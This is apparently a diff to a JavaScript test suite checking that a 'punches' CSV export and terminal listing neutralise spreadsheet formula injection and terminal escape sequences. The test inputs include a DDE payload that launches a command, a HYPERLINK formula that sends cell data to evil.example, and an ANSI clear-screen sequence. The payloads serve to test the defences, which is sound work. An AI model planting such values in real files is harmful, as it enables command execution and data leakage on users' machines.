@@ -27,7 +27,7 @@ describe('punches export is safe to open in a spreadsheet', () => {
       '=HYPERLINK("http://evil.example/?"&A1,"click")',
       '\tindented',
       'line one\r\nline two',
-      '@evil',
+      '@evil\u001b[2J',
       'plain, with "quotes"',
     ];
     const journal = Journal.open({ path: box.tmp.path('journal.db'), site: 'plant-a' });
@@ -58,12 +58,18 @@ describe('punches export is safe to open in a spreadsheet', () => {
       ["'=cmd|'/C_calc'!A0", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, '1'],
       ["'+41", "'\tindented", '1'],
       ["'-2", 'line one\r\nline two', '1'],
-      ["'@SUM(1)", "'@evil", '1'],
+      ["'@SUM(1)", "'@evil\u001b[2J", '1'],
       ['1001', 'plain, with "quotes"', '1'],
     ]);
     // On the wire: the line break and the quotes are inside a quoted cell; every record ends in CRLF.
     expect(r.stdout).toContain(`,"line one\r\nline two"\r\n`);
     expect(r.stdout).toContain(`,"plain, with ""quotes"""\r\n`);
     expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n`);
+
+    // The list for a person at a terminal shows the same text with control characters escaped.
+    const list = await box.cli('punches', '--state', 'rejected');
+    expect(list.stdout).toContain('@evil\\x1b[2J');
+    expect(list.stdout).toContain('line one\\x0d\\x0aline two');
+    expect(list.stdout).not.toMatch(/[\u001b\r\t]/);
   });
 });
